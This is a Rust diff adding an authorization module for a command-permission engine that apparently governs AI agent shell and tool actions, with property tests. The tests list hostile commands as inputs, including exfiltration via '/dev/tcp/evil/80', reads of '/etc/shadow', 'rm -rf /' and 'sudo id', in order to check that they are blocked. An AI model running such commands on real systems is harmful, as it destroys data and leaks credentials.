@@ -1,0 +1,724 @@
+//! What a rule that allows covers.
+//!
+//! Two things keep such a rule from allowing what nobody allowed. A condition that is read strictly
+//! has to hold of every command of a line by itself ([`Parts`]): `cat src/a; curl x` isn't about
+//! `src` only because the one path in it is. And what the conditions speak of has to be all that
+//! the action does ([`gap`]): who allows a host has said nothing of the file that is written
+//! beside. So a line is never treated milder than one of its commands.
+
+use super::condition::{Condition, Predicate};
+use super::effect::Tristate;
+use super::facts::Facts;
+use super::request::Request;
+use governance::ActionType;
+use shell_effects::{Analysis, Effect, EffectKind, How, Span, analyse};
+
+/// The commands of a line, each with its redirections, and which effects and programs belong to
+/// which.
+#[derive(Debug, Default)]
+pub(crate) struct Parts {
+    /// How many there are; what no command causes (a redirection of a whole group) is one more.
+    pub(crate) count: usize,
+    /// Where each stands in the line; what no command causes stands nowhere.
+    spans: Vec<Span>,
+    /// The part of each effect.
+    effects: Vec<usize>,
+    /// The part of each step of the tree.
+    steps: Vec<usize>,
+    /// The step that causes each effect.
+    owners: Vec<Option<usize>>,
+}
+
+impl Parts {
+    /// Of an action that is one piece.
+    fn whole(analysis: &Analysis) -> Self {
+        let (effects, steps) = (analysis.effects.len(), analysis.tree.len());
+        Self {
+            count: 1,
+            spans: Vec::new(),
+            effects: vec![0; effects],
+            steps: vec![0; steps],
+            owners: vec![steps.checked_sub(1); effects],
+        }
+    }
+
+    /// Of a command line.
+    pub fn of(analysis: &Analysis, is_line: bool) -> Self {
+        if !is_line {
+            return Self::whole(analysis);
+        }
+        let tree = &analysis.tree;
+        // Parents stand before their children.
+        let mut roots: Vec<usize> = Vec::with_capacity(tree.len());
+        for (index, step) in tree.iter().enumerate() {
+            roots.push(
+                step.parent
+                    .and_then(|p| roots.get(p))
+                    .copied()
+                    .unwrap_or(index),
+            );
+        }
+        let mut spans: Vec<Span> = tree
+            .iter()
+            .filter(|s| s.parent.is_none())
+            .map(|s| s.span)
+            .collect();
+        spans.sort_by_key(|s| (s.from, std::cmp::Reverse(s.to)));
+        // What runs in a substitution belongs to the command around it.
+        spans.dedup_by(|inner, outer| {
+            let within = inner.from < outer.to || *inner == *outer;
+            if within {
+                *outer = outer.join(*inner);
+            }
+            within
+        });
+        let part_of = |span: Span| spans.iter().position(|s| holds(*s, span));
+        let steps: Vec<usize> = (roots.iter())
+            .map(|root| {
+                tree.get(*root)
+                    .and_then(|s| part_of(s.span))
+                    .unwrap_or_default()
+            })
+            .collect();
+        let owner = |effect: &Effect| {
+            let around = tree
+                .iter()
+                .enumerate()
+                .filter(|(_, s)| holds(s.span, effect.span));
+            // Of several at one place the innermost.
+            around
+                .min_by_key(|(index, s)| (s.span.to - s.span.from, std::cmp::Reverse(*index)))
+                .map(|(index, _)| index)
+        };
+        let owners: Vec<Option<usize>> = analysis.effects.iter().map(owner).collect();
+        let stray = spans.len();
+        let effects: Vec<usize> = owners
+            .iter()
+            .map(|o| o.and_then(|o| steps.get(o)).copied().unwrap_or(stray))
+            .collect();
+        let count = stray + usize::from(effects.contains(&stray));
+        Self {
+            count,
+            spans,
+            effects,
+            steps,
+            owners,
+        }
+    }
+
+    /// The part that an effect belongs to.
+    pub(crate) fn of_effect(&self, index: usize) -> usize {
+        self.effects.get(index).copied().unwrap_or_default()
+    }
+
+    /// The part that a step belongs to.
+    pub(crate) fn of_step(&self, index: usize) -> usize {
+        self.steps.get(index).copied().unwrap_or_default()
+    }
+
+    /// The text of each part; nothing for what no command causes.
+    pub(crate) fn texts<'t>(&'t self, line: &'t str) -> impl Iterator<Item = &'t str> {
+        let text = |part: usize| {
+            self.spans
+                .get(part)
+                .and_then(|s| line.get(s.from..s.to))
+                .unwrap_or_default()
+        };
+        (0..self.count).map(text)
+    }
+
+    /// The first part without any of these.
+    pub(crate) fn without(&self, parts: impl Iterator<Item = usize>) -> Option<usize> {
+        if self.count < 2 {
+            return None;
+        }
+        let mut found = vec![false; self.count];
+        for part in parts {
+            if let Some(slot) = found.get_mut(part) {
+                *slot = true;
+            }
+        }
+        found.iter().position(|has| !has)
+    }
+}
+
+fn holds(outer: Span, inner: Span) -> bool {
+    outer.from <= inner.from && inner.to <= outer.to
+}
+
+/// What a set of conditions speaks of, as bits.
+type GrantSet = u8;
+const PATHS: GrantSet = 1;
+const HOSTS: GrantSet = 2;
+const PROGRAMS: GrantSet = 4;
+const EVERYTHING: GrantSet = 8;
+
+/// The sets that a condition may come to, each as the bit of its number: alternatives speak each
+/// for itself.
+type GrantAlternatives = u16;
+/// It says nothing of what an action does, only of the action as a whole.
+const SILENT: GrantAlternatives = 1;
+/// One of the sets is empty, or holds [`EVERYTHING`]: no effect has to be looked at.
+const ENOUGH: GrantAlternatives = 0xff01;
+
+/// The first effect that a rule which allows doesn't speak of, though its condition holds.
+pub(crate) fn gap<'f>(
+    when: &Condition,
+    facts: &'f Facts<'_>,
+    request: &Request<'_>,
+) -> Option<Gap<'f>> {
+    let readings = speech(when, facts, request, true);
+    if readings & ENOUGH != 0 {
+        return None;
+    }
+    let mut first = None;
+    for set in (0..16u8).filter(|set| readings & (1 << set) != 0) {
+        match uncovered(set, facts) {
+            None => return None,
+            Some(effect) => first = first.or(Some(Gap { set, effect })),
+        }
+    }
+    first
+}
+
+/// What a rule that allows doesn't speak of.
+pub(crate) struct Gap<'f> {
+    set: GrantSet,
+    effect: &'f Effect,
+}
+
+impl std::fmt::Display for Gap<'_> {
+    /// May hold hostile text.
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let named = [(PATHS, "paths"), (HOSTS, "hosts"), (PROGRAMS, "programs")];
+        let named: Vec<&str> = named
+            .iter()
+            .filter(|(bit, _)| self.set & bit != 0)
+            .map(|(_, name)| *name)
+            .collect();
+        write!(
+            f,
+            "it speaks of {}, and not of the effect {}",
+            named.join(" and "),
+            self.effect.kind.as_str()
+        )?;
+        if let Some(target) = &self.effect.target {
+            write!(f, " `{target}`")?;
+        }
+        f.write_str(", which the action has as well")
+    }
+}
+
+fn product(one: GrantAlternatives, other: GrantAlternatives) -> GrantAlternatives {
+    // Nearly all are about this: it is asked of every rule that allows.
+    if one == SILENT || other == SILENT {
+        return if one == SILENT { other } else { one };
+    }
+    let sets =
+        |readings: GrantAlternatives| (0..16u16).filter(move |set| readings & (1 << set) != 0);
+    sets(one).fold(0, |all, a| {
+        sets(other).fold(all, |all, b| all | 1 << (a | b))
+    })
+}
+
+/// What a condition that holds speaks of. `positive` is false inside `not`: what must not be is no
+/// grant.
+fn speech(
+    when: &Condition,
+    facts: &Facts<'_>,
+    request: &Request<'_>,
+    positive: bool,
+) -> GrantAlternatives {
+    match (when, positive) {
+        (Condition::Not(inner), _) => speech(inner, facts, request, !positive),
+        (Condition::All(list), true) | (Condition::Any(list), false) => {
+            list.iter().fold(SILENT, |all, part| {
+                product(all, speech(part, facts, request, positive))
+            })
+        }
+        (Condition::Any(list), true) | (Condition::All(list), false) => {
+            let wanted = if positive {
+                Tristate::Yes
+            } else {
+                Tristate::No
+            };
+            let holding = list
+                .iter()
+                .filter(|part| part.holds(facts, request, positive) == wanted);
+            holding.fold(0, |all, part| all | speech(part, facts, request, positive))
+        }
+        (Condition::Is(..), false) => SILENT,
+        (Condition::Is(predicate, _), true) => 1 << spoken(predicate),
+    }
+}
+
+/// What a key speaks of.
+fn spoken(predicate: &Predicate) -> GrantSet {
+    match predicate {
+        Predicate::Path(_) => PATHS,
+        Predicate::Host(_) => HOSTS,
+        Predicate::Command(test) if test.names_programs() => PROGRAMS,
+        Predicate::Effects(_) | Predicate::Category(_) | Predicate::Granted(_) => EVERYTHING,
+        Predicate::Command(_)
+        | Predicate::Type(_)
+        | Predicate::Tool(_)
+        | Predicate::Risk(_)
+        | Predicate::Agent(_)
+        | Predicate::Mode(_)
+        | Predicate::Production(_)
+        | Predicate::Pattern(_)
+        | Predicate::ApprovedBefore
+        | Predicate::UsedUp(_) => 0,
+    }
+}
+
+/// Whether keys and `not`s that hold together speak of nothing that others together don't speak of.
+/// Not where that can't be told without an action.
+pub(super) fn speaks_no_more(new: &[&Condition], old: &[&Condition]) -> bool {
+    let together = |parts: &[&Condition]| {
+        parts
+            .iter()
+            .map(|part| spoken_alone(part))
+            .try_fold(0, |all, one| Some(all | one?))
+    };
+    let enough = |set: GrantSet| set == 0 || set & EVERYTHING != 0;
+    together(old)
+        .zip(together(new))
+        .is_some_and(|(old, new)| enough(old) || !enough(new) && new & !old == 0)
+}
+
+/// What a key or a `not` speaks of; none where that depends on which of its alternatives holds.
+fn spoken_alone(part: &Condition) -> Option<GrantSet> {
+    match part {
+        Condition::Is(predicate, _) => Some(spoken(predicate)),
+        Condition::Not(inner) => {
+            let mut again = false;
+            inner.walk(true, &mut |below, _| {
+                again |= matches!(below, Condition::Not(_));
+            });
+            (!again).then_some(0)
+        }
+        Condition::All(_) | Condition::Any(_) => None,
+    }
+}
+
+/// The first effect that is none of what a set speaks of.
+fn uncovered<'f>(set: GrantSet, facts: &'f Facts<'_>) -> Option<&'f Effect> {
+    if set == 0 || set & EVERYTHING != 0 {
+        return None;
+    }
+    let spoken = |(index, effect): (usize, &Effect)| {
+        let path = || {
+            matches!(
+                effect.kind,
+                EffectKind::Read | EffectKind::Write | EffectKind::Delete
+            ) && facts.has_site(index)
+        };
+        set & PATHS != 0 && path()
+            || set & HOSTS != 0 && effect.kind == EffectKind::Network
+            || set & PROGRAMS != 0 && of_a_program(index, effect, facts)
+    };
+    facts
+        .analysis()
+        .effects
+        .iter()
+        .enumerate()
+        .find(|one| !spoken(*one))
+        .map(|(_, effect)| effect)
+}
+
+/// Whether an effect is that of a program, and not of a redirection, which works whatever the
+/// program does.
+pub(super) fn of_a_program(index: usize, effect: &Effect, facts: &Facts<'_>) -> bool {
+    match facts.action.kind {
+        Some(ActionType::ShellCmd) => owned(index, facts.analysis(), facts.parts(), facts.line()),
+        // What the tool does by itself and what its command does are told apart by asking about the
+        // command alone.
+        Some(ActionType::ToolCall) => commands(facts).any(|line| {
+            let analysis = analyse(line, facts.context());
+            let parts = Parts::of(&analysis, true);
+            let same = |e: &Effect| e.kind == effect.kind && e.target == effect.target;
+            let mut alike = analysis
+                .effects
+                .iter()
+                .enumerate()
+                .filter(|(_, e)| same(e))
+                .peekable();
+            alike.peek().is_some() && alike.all(|(index, _)| owned(index, &analysis, &parts, line))
+        }),
+        Some(ActionType::CodeDiff | ActionType::Answer) | None => false,
+    }
+}
+
+/// The command lines among the parameters of a tool call.
+fn commands<'f>(facts: &'f Facts<'_>) -> impl Iterator<Item = &'f str> {
+    let members = facts.action.parameters().as_object();
+    let named = |key: &str| ["command", "cmd", "shell", "script", "bash"].contains(&key);
+    members
+        .into_iter()
+        .flatten()
+        .filter(move |(key, _)| named(key))
+        .filter_map(|(_, value)| value.as_str())
+}
+
+fn owned(index: usize, analysis: &Analysis, parts: &Parts, line: &str) -> bool {
+    let Some(Some(owner)) = parts.owners.get(index).copied() else {
+        return false;
+    };
+    let Some(effect) = analysis.effects.get(index) else {
+        return false;
+    };
+    // No redirection does anything else than these.
+    if !matches!(
+        effect.kind,
+        EffectKind::Read
+            | EffectKind::Write
+            | EffectKind::Delete
+            | EffectKind::Network
+            | EffectKind::System
+            | EffectKind::Credential
+    ) {
+        return true;
+    }
+    // In decoded or quoted code everything may stand at the place of the whole text: then nothing
+    // tells what a redirection is.
+    let mut step = analysis.tree.get(owner);
+    while let Some(one) = step {
+        if one.how == How::Code && one.span == effect.span {
+            return false;
+        }
+        step = one.parent.and_then(|p| analysis.tree.get(p));
+    }
+    line.get(effect.span.from..effect.span.to)
+        .is_some_and(|text| !is_redirection(text))
+}
+
+/// Whether a text begins as `> x`, `2>> x`, `{fd}< x` and `&> x` do.
+fn is_redirection(text: &str) -> bool {
+    let named = text
+        .strip_prefix('{')
+        .and_then(|rest| rest.split_once('}'))
+        .map(|(_, rest)| rest);
+    let rest = named.unwrap_or_else(|| text.trim_start_matches(|c: char| c.is_ascii_digit()));
+    rest.trim_start_matches('&').starts_with(['<', '>'])
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{Action, Effect, History, Policy, Request, load};
+    use proptest::prelude::*;
+    use serde_json::json;
+
+    fn pack(rules: &[(&str, &str)]) -> Policy {
+        let mut text =
+            "version: 1\nid: p\ncombine: deny-overrides\ndefault: { effect: require_approval, reason: d }\nrules:\n".to_owned();
+        for (n, (when, effect)) in rules.iter().enumerate() {
+            text.push_str(&format!(
+                "  - {{ id: r{n}, when: {{ {when} }}, effect: {effect}, reason: r }}\n"
+            ));
+        }
+        load("p", &text).unwrap()
+    }
+
+    fn ask(policy: &Policy, action: &Action) -> Effect {
+        policy
+            .decide(&Request::new(action, &History::default()))
+            .effect
+    }
+
+    fn allowed(when: &str, command: &str) -> bool {
+        ask(&pack(&[(when, "allow")]), &Action::shell(command)) == Effect::Allow
+    }
+
+    #[test]
+    fn of_two_names_of_a_tool_both_count() {
+        let two = Action::recorded(
+            "tool_call",
+            json!({"tool": "read_file", "tool_name": "delete_file", "parameters": {}}),
+        );
+        for name in ["read_file", "delete_file"] {
+            assert_eq!(
+                ask(&pack(&[(&format!("tool: {name}"), "deny")]), &two),
+                Effect::Deny,
+                "{name}"
+            );
+            assert_ne!(
+                ask(&pack(&[(&format!("tool: {name}"), "allow")]), &two),
+                Effect::Allow,
+                "{name}"
+            );
+        }
+    }
+
+    #[test]
+    fn who_allows_one_thing_has_not_allowed_another() {
+        let host = "host: good.com";
+        assert!(
+            allowed(host, "curl http://good.com")
+                && allowed(host, "curl http://good.com; curl http://good.com/x")
+        );
+        for line in [
+            "curl http://good.com; rm -rf /",
+            "curl http://good.com -o /etc/x",
+            "scp a good.com:",
+            "curl http://good.com; true",
+        ] {
+            assert!(!allowed(host, line), "{line}");
+        }
+        let path = "path: { glob: 'src/**' }";
+        assert!(
+            allowed(path, "cat src/a")
+                && allowed(path, "cp src/a src/b > src/c")
+                && allowed(path, "cat src/a | tee src/b")
+        );
+        assert!(
+            !allowed(path, "cat src/a; true"),
+            "alone it isn't about `src` either"
+        );
+        for tail in ["curl http://x", "sudo id", "git push --force", "npm test"] {
+            assert!(!allowed(path, &format!("cat src/a; {tail}")), "{tail}");
+            assert!(!allowed(path, &format!("{tail} > src/a")), "{tail}");
+        }
+        let ls = "command: { program: [ls, cat] }";
+        assert!(
+            allowed(ls, "ls -l src; cat a")
+                && allowed(ls, "sh -c 'cat a'") == allowed(ls, "sh -c 'ls a'")
+        );
+        for line in [
+            "ls > /etc/x",
+            "cat a > /dev/tcp/evil/80",
+            "cat < /etc/shadow",
+            "(ls; ls) > x",
+            "ls 2> x",
+            "ls {fd}> x",
+            "ls &> x",
+        ] {
+            assert!(!allowed(ls, line), "{line}");
+        }
+        let code = "command: { program: [cat, bash, sh, eval] }";
+        assert!(allowed(code, "sh -c 'cat a b'"));
+        for line in [
+            "sh -c 'cat a > b'",
+            "bash <<< 'cat a > b'",
+            "eval 'cat a > b'",
+            "bash -c \"cat a > \\\"b\\\"\"",
+        ] {
+            assert!(!allowed(code, line), "{line}");
+        }
+        assert!(allowed(
+            "command: { raw: '^git (status|log)' }",
+            "git status; git log"
+        ));
+        assert!(!allowed(
+            "command: { raw: '^git status' }",
+            "git status; rm -rf /"
+        ));
+        assert!(!allowed(
+            "type: shell_cmd, pattern: 'git status'",
+            "git status && rm -rf /"
+        ));
+    }
+
+    #[test]
+    fn conditions_together_speak_of_more_and_alternatives_each_for_itself() {
+        let both = "host: good.com, path: { glob: 'src/**' }";
+        assert!(
+            allowed(both, "curl http://good.com -o src/a")
+                && !allowed(both, "curl http://good.com -o docs/a")
+        );
+        assert!(allowed(
+            "host: good.com, effects: [network, write]",
+            "curl http://good.com -o a"
+        ));
+        assert!(!allowed(
+            "host: good.com, type: shell_cmd, risk: [low, medium]",
+            "curl http://good.com -o a"
+        ));
+        assert!(!allowed(
+            "host: good.com, not: { effects: [delete] }",
+            "curl http://good.com -o a"
+        ));
+        assert!(!allowed(
+            "not: { not: { host: good.com } }",
+            "curl http://good.com -o a"
+        ));
+        let either = "any: [{ host: good.com }, { path: { glob: 'src/**' } }]";
+        assert!(allowed(either, "cat src/a") && !allowed(either, "curl http://good.com -o src/a"));
+        assert!(allowed(
+            "path: { glob: 'src/**' }, command: { program: cat }",
+            "cat src/a > src/b"
+        ));
+        assert!(
+            allowed("type: shell_cmd", "ls > a")
+                && allowed("risk: low", "ls")
+                && allowed("not: { effects: [delete] }", "ls > a")
+        );
+    }
+
+    #[test]
+    fn a_tool_does_more_than_its_command() {
+        let git = pack(&[("type: tool_call, command: { program: [git, cat] }", "allow")]);
+        let call = |tool: &str, input| ask(&git, &Action::call(tool, input));
+        assert_eq!(
+            call("bash_execute", json!({"command": "git status"})),
+            Effect::Allow
+        );
+        assert_eq!(
+            call("bash_execute", json!({"command": "cat a"})),
+            Effect::Allow
+        );
+        assert_eq!(
+            call("bash_execute", json!({"command": "cat a > /etc/x"})),
+            Effect::RequireApproval
+        );
+        assert_eq!(
+            call("git_push", json!({"command": "git status"})),
+            Effect::RequireApproval
+        );
+        assert_eq!(
+            call("write_file", json!({"command": "cat a", "path": "/etc/x"})),
+            Effect::RequireApproval
+        );
+    }
+
+    #[test]
+    fn scopes_allow_changes_in_them_and_nothing_beside() {
+        let scopes =
+            load("s", "scopes: [{ id: a, allow: ['src/**'] }]\nrules: [{ id: r, scope: a, action: block, reason: r }]\n")
+                .unwrap();
+        let shell = |line: &str| ask(&scopes, &Action::shell(line));
+        assert_eq!(shell("echo x > src/a"), Effect::Allow);
+        assert_eq!(shell("echo x > src/a; sudo id"), Effect::RequireApproval);
+        assert_ne!(shell("npm test > src/a"), Effect::Allow);
+    }
+
+    #[test]
+    fn the_account_says_what_is_not_covered() {
+        let why = |when: &str, line: &str| {
+            let (policy, action) = (pack(&[(when, "allow")]), Action::shell(line));
+            policy
+                .explain(&Request::new(&action, &History::default()))
+                .remove(0)
+                .why
+        };
+        assert_eq!(
+            why("host: good.com", "curl http://good.com -o /etc/x"),
+            "every condition holds, but it speaks of hosts, and not of the effect write `/etc/x`, which the action has as well"
+        );
+        let text = why("path: { glob: 'src/**' }", "cat src/a; sudo id");
+        assert!(
+            text.ends_with("the paths are read `src/a`; `sudo id` touches no path"),
+            "{text}"
+        );
+    }
+
+    /// Conditions of one dimension each.
+    const WHENS: [&str; 16] = [
+        "host: good.com",
+        "host: ['*.good.com', good.com]",
+        "path: { glob: 'src/**' }",
+        "path: { outside_workdir: false }",
+        "path: { glob: 'src/**', access: [read] }",
+        "path: { except: ['*.pem'], access: [write, read] }",
+        "command: { program: [ls, cat, echo] }",
+        "command: { program: curl }",
+        "command: { arg: ['-l', '--', src/a] }",
+        "command: { raw: '^(ls|cat|curl)' }",
+        "pattern: 'src|true'",
+        "effects: [read, network]",
+        "category: [execute, read]",
+        "risk: low",
+        "risk: medium",
+        "type: shell_cmd",
+    ];
+
+    fn simple() -> impl Strategy<Value = String> + Clone {
+        const COMMANDS: [&str; 24] = [
+            "ls",
+            "ls -l src",
+            "cat src/a",
+            "cat /etc/passwd",
+            "true",
+            "echo hi",
+            "curl http://good.com",
+            "curl http://good.com -o src/x",
+            "curl http://evil.com",
+            "scp src/a good.com:",
+            "sudo id",
+            "git push --force",
+            "git status",
+            "rm src/a",
+            "rm -rf /",
+            "npm test",
+            "cat a.pem",
+            "sh -c 'cat src/a > b'",
+            "(cat src/a; ls)",
+            "echo $(cat src/a)",
+            "$X",
+            "cat *",
+            "frobnicate src/a",
+            "touch src/a",
+        ];
+        let redirection = proptest::sample::select(vec![
+            "",
+            "",
+            "",
+            " > src/b",
+            " > /etc/x",
+            " < src/a",
+            " > /dev/tcp/evil/80",
+            " 2> /dev/null",
+        ]);
+        (proptest::sample::select(COMMANDS.to_vec()), redirection).prop_map(|(command, to)| {
+            // What a command that prints nothing makes empty was perhaps made by the command before
+            // it, and is no loss then.
+            if matches!(command, "true" | "sh -c 'cat src/a > b'") {
+                command.to_owned()
+            } else {
+                format!("{command}{to}")
+            }
+        })
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
+
+        #[test]
+        fn a_line_is_at_least_as_strict_as_its_strictest_command(
+            allow in proptest::sample::subsequence(WHENS.to_vec(), 1..3),
+            deny in proptest::sample::select(WHENS[..12].to_vec()),
+            kind in 0u8..3,
+            (a, b) in (simple(), simple()),
+            separator in proptest::sample::select(vec!["; ", " && ", " | ", " || ", "\n", " & "]),
+        ) {
+            let inverted = format!("not: {{ {deny} }}");
+            let mut rules: Vec<(&str, &str)> = allow.iter().map(|when| (*when, "allow")).collect();
+            match kind {
+                0 => {}
+                1 => rules.push((&inverted, "allow")),
+                _ => rules.push((&inverted, "deny")),
+            }
+            // What isn't searched for a text: `not` of one is about the text as a whole.
+            prop_assume!(kind == 0 || !deny.contains("raw") && !deny.contains("pattern"));
+            // A text that has to begin in some way doesn't begin with the bracket of a group.
+            let of_text = allow.iter().any(|when| when.contains("raw") || when.contains("pattern"));
+            prop_assume!(!of_text || !a.contains('(') && !b.contains('('));
+            let policy = pack(&rules);
+            let apart = ask(&policy, &Action::shell(&a)).max(ask(&policy, &Action::shell(&b)));
+            let together = ask(&policy, &Action::shell(&format!("{a}{separator}{b}")));
+            prop_assert!(together >= apart, "{rules:?}: {together} for `{a}{separator}{b}`, {apart} apart");
+        }
+
+        #[test]
+        fn alternatives_and_conjunctions_compose_too(
+            parts in proptest::sample::subsequence(WHENS[..9].to_vec(), 2..4),
+            any in any::<bool>(),
+            (a, b) in (simple(), simple()),
+        ) {
+            let list: Vec<String> = parts.iter().map(|part| format!("{{ {part} }}")).collect();
+            let when = format!("{}: [{}]", if any { "any" } else { "all" }, list.join(", "));
+            let together = allowed(&when, &format!("{a}; {b}"));
+            prop_assert!(!together || allowed(&when, &a) && allowed(&when, &b), "{when}: `{a}; {b}`");
+        }
+    }
+}
